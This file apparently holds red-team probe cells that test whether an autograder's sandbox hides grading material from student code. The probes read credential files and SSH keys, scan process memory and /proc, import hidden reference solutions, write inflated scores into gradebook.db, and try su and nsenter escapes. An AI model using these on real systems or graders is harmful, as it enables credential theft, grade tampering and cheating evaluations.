"""Looks for what would help: answers, checks, the gradebook, other people's work. It is not there.

A find is anything with the word that the tests have planted in the grader's surroundings. What is
found is printed, and would be seen in the notebook that comes back.
"""

# %% id="history" attacks="svm_loss"
# Reads the tests from the notebook's own history.
from IPython import get_ipython

shell = get_ipython()
print(In, Out, _ih, _oh, dir(), sep="\n")
print(shell.history_manager.input_hist_raw, list(shell.history_manager.get_range(raw=True)))
print({name: str(value)[:200] for name, value in shell.user_ns.items() if "planted" in str(value)})


def svm_loss(x, y):
    print(In, shell.user_ns_hidden.keys())
    return 0.0, x


# %% id="frames" attacks="svm_loss"
# Walks up the frames of its callers for expected values, tolerances and scores.
import inspect
import sys

import numpy as np


def svm_loss(x, y):
    found, frame = [], sys._getframe()
    while frame is not None:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ("expected", "right", "wanted", "tolerance", "reference", "secret"):
                print(frame.f_code.co_filename, name, value)
                found.append(value)
        frame = frame.f_back
    print([caller.code_context for caller in inspect.stack()][:5])
    return found[0] if found else 0.0, np.zeros(x.shape)


# %% id="frames-of-threads" attacks="svm_loss"
# The same for all threads, and for the tracebacks of what was raised before.
import sys
import traceback

import numpy as np


def svm_loss(x, y):
    for frame in sys._current_frames().values():
        while frame is not None:
            print(
                frame.f_code.co_filename, [n for n in frame.f_locals if n in ("expected", "right")]
            )
            frame = frame.f_back
    print(traceback.format_stack(), sys.exc_info(), getattr(sys, "last_exc", None))
    return 0.0, np.zeros(x.shape)


# %% id="heap" attacks="svm_loss"
# Asks the garbage collector for every function, module, text and array of the process.
import gc
import types

import numpy as np


def svm_loss(x, y):
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__module__ not in (None, "__main__"):
            if thing.__module__.startswith("grading"):
                print(thing.__module__, thing.__qualname__)
        elif isinstance(thing, dict):
            for key, value in list(thing.items()):
                if isinstance(value, str) and "planted-" in value and "frame" not in str(key):
                    print("found", key, value[:300])
    return 0.0, np.zeros(x.shape)


# %% id="memory" attacks="svm_loss" place="before"
# Reads its own memory, byte by byte, for what a parent process may have left behind in it.
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def peek(address, size=65536):
    buffer = ctypes.create_string_buffer(size)
    ours, theirs = Vector(ctypes.addressof(buffer), size), Vector(address, size)
    got = libc.process_vm_readv(os.getpid(), ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return buffer.raw[:got] if got > 0 else b""


word = b"planted" + b"-"
for start in {id(thing) & ~0xFFFFF for thing in (object(), [], sys, "a", 1.5, os.environ, libc)}:
    for offset in range(-(2**25), 2**25, 65536):
        page = peek(start + offset)
        at = page.find(word)
        while at >= 0:
            if page[at + 8 : at + 40].isalnum():
                print("found", page[at : at + 40])
            at = page.find(word, at + 1)

# %% id="proc" attacks="svm_loss" place="before"
# Reads /proc: environments, command lines, maps, memory and descriptors, its own and its parents'.
import glob
import os

for process in ["self", "thread-self", "1", "2", str(os.getpid()), str(os.getppid())]:
    for name in ("environ", "cmdline", "maps", "mounts", "mountinfo", "stack", "status", "cgroup"):
        try:
            with open(f"/proc/{process}/{name}", "rb") as file:
                print(process, name, file.read()[:5000])
        except OSError as problem:
            print(process, name, problem)
    for name in ("mem", "root", "cwd", "exe", "fd", "task"):
        try:
            print(process, name, os.listdir(f"/proc/{process}/{name}"))
        except OSError as problem:
            print(process, name, problem)
print(glob.glob("/proc/*"), glob.glob("/proc/*/root/*"), glob.glob("/sys/fs/cgroup/*"))

# %% id="environment" attacks="svm_loss" place="before"
# Prints its environment, the command line, the machine's name and its users.
import os
import pwd
import socket
import sys

print(dict(os.environ), os.environb, sys.argv, sys.orig_argv, sys.path, sys.flags)
print(socket.gethostname(), os.uname(), os.getuid(), os.getgroups())
try:
    print(pwd.getpwall())
except KeyError as problem:
    print(problem)

# %% id="disk" attacks="svm_loss" place="before"
# Walks the whole disk for the course: gradebooks, references, checks, secrets, other submissions.
import os
import re
import sys

wanted = re.compile(
    r"gradebook|reference|hidden|submitted|autograded|course\.toml|^\.ssh|planted|nbgrader|^\.git$|"
    r"^grading|assignments|history|shadow|secret"
)
system = ("/proc", "/sys", "/usr", "/lib", "/etc/alternatives", "/etc/fonts", sys.base_prefix)
for folder, folders, names in os.walk("/"):
    packages = folder.startswith("/kit/site") and not folder.startswith("/kit/site/cs231n")
    if folder.startswith(system) or (packages and folder != "/kit/site"):
        folders.clear()
        continue
    for name in [*folders, *names]:
        if wanted.search(name):
            print("found", os.path.join(folder, name))
    for name in names:
        path = os.path.join(folder, name)
        if path == "/home/student/1_fully_connected.ipynb":  # what was handed in: this very cell
            continue
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 10**6:
                with open(path, "rb") as file:
                    text = file.read()
                if re.search(rb"planted-[0-9a-f]{8}|BEGIN HIDDEN|dx\[samples, y\]", text):
                    print("found in", path, text[:1000])
        except OSError:
            pass

# %% id="known-places" attacks="svm_loss" place="before"
# Opens the places where a grader's things usually are, by name and by parent folders.
import os

places = [
    "/root", "/home", "/srv", "/work", "/mnt", "/media", "/var", "/opt", "/run", "/run/user",
    "/root/.ssh/id_rsa", "/etc/passwd", "/etc/shadow", "/etc/hosts", "/root/.bash_history",
    "/var/run/docker.sock", "/run/containerd", "/dev", "/dev/mem", "/dev/kmsg", "/dev/sda",
    "/tmp", "/var/tmp", "/dev/shm", "/sys/kernel", "/boot", "/lost+found", "..", "../..",
    "../../../../../..", "/kit", "/kit/site", "/kit/site/cs231n", "/kit/../work",
]  # fmt: skip
for place in places:
    try:
        print(place, os.listdir(place) if os.path.isdir(place) else open(place, "rb").read(500))
    except OSError as problem:
        print(place, problem)
for name in ("gradebook.db", "../gradebook.db", "grading/course/gradebook.db"):
    print(name, os.path.exists(name))

# %% id="database" attacks="svm_loss" place="before"
# Opens gradebooks, and writes a score into one, wherever SQLite and SQLAlchemy may find it.
import os

try:
    import sqlite3

    for folder in (".", "..", "/root", "/home", "/tmp", "/kit"):
        path = os.path.join(folder, "gradebook.db")
        if os.path.exists(path):
            with sqlite3.connect(path) as db:
                print("found", path, db.execute("select * from grade").fetchall())
                db.execute("update grade set auto_score = 1000, manual_score = 1000")
except Exception as problem:
    print(problem)
for name in ("sqlalchemy", "nbgrader", "nbgrader.api", "psycopg2", "psycopg"):
    try:
        __import__(name)
        print("found", name)
    except ImportError as problem:
        print(problem)

# %% id="reference" attacks="svm_loss"
# Imports the reference solutions and the hidden checks, from wherever they might be.
import glob
import importlib
import os
import sys

import numpy as np

places = [".", "..", "../..", "/", "/kit", "/kit/site", "/srv/course"]
sys.path += [os.path.abspath(p) for p in places] + glob.glob("/*") + glob.glob("/*/*")
names = ["grading", "grading.reference.fully_connected", "grading.checks", "grading.checks.losses"]
names += ["reference.fully_connected", "fully_connected", "grading.engine.run", "checks.losses"]
solutions = []
for name in names:
    try:
        module = importlib.import_module(name)
        print("found", name, module)
        solutions.append(module.svm_loss)
    except (ImportError, AttributeError) as problem:
        print(problem)


def svm_loss(x, y):
    return solutions[0](x, y) if solutions else (0.0, np.zeros(x.shape))


# %% id="descriptors" attacks="svm_loss"
# Looks into every open file descriptor, without taking anything out.
import os
import socket

import numpy as np


def svm_loss(x, y):
    for fd in range(1024):
        try:
            about = os.fstat(fd)
        except OSError:
            continue
        print("open", fd, oct(about.st_mode), about.st_size)
        try:
            with socket.socket(fileno=os.dup(fd)) as wire:
                print(wire.getsockname(), wire.getpeername(), wire.family)
                print(wire.recv(65536, socket.MSG_PEEK | socket.MSG_DONTWAIT))
                print(wire.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
        except OSError as problem:
            print(problem)
    return 0.0, np.zeros(x.shape)


# %% id="modules" attacks="svm_loss" place="before"
# Prints the text of every module that is loaded, the session's own included, and searches it.
import inspect
import sys

for name, module in sorted(sys.modules.items()):
    if name.split(".")[0] in ("inside", "cs231n", "__main__", "grading", "nbgrader"):
        try:
            source = inspect.getsource(module)
        except (OSError, TypeError):
            continue
        print(name, len(source))
        for line in source.splitlines():
            if "grade_cell" in line or "BEGIN HIDDEN" in line or "reference." in line:
                print("found", name, line)

# %% id="arguments" attacks="svm_loss"
# Looks for what the next call will be asked: attributes, bases and owners of its arguments.
import gc

import numpy as np


def svm_loss(x, y):
    base = x.base if x.base is not None else x
    try:
        beyond = np.frombuffer(base, np.uint8)
        print(len(beyond), x.nbytes, bytes(beyond[-200:]))
    except (TypeError, ValueError) as problem:
        print(problem)
    for owner in gc.get_referrers(x, base):
        print(type(owner), str(owner)[:300])
    return 0.0, np.zeros(x.shape)


# %% id="other-students" attacks="svm_loss" place="before"
# Looks for what an earlier submission has left: files, names, modules, threads, processes.
import os
import sys
import threading

from IPython import get_ipython

print(
    os.listdir("."), os.listdir("/tmp"), os.listdir("/dev/shm"), os.listdir(os.path.expanduser("~"))
)
print(threading.enumerate(), os.getpid(), os.getppid())
names = [name for name in get_ipython().user_ns if not name.startswith("_")]
print(names, [name for name in sys.modules if "planted" in name or "student" in name])

# %% id="shell" attacks="svm_loss" place="before"
# The same with the system's programs: ps, find, env, grep, who, df.
from IPython import get_ipython

shell = get_ipython()
shell.system("id; env; ps aux; df; mount; who; ls -la / ~ . .. /root /home /work /tmp")
shell.system("find /root /home /tmp /etc /kit/site/cs231n -name '*.db' 2>/dev/null | head")
shell.system("grep -rl 'planted-' /tmp /root /home /work /var /etc 2>/dev/null | head")
shell.run_line_magic("sx", "cat /proc/1/environ /proc/self/environ; su -c id; nsenter -t 1 -a id")
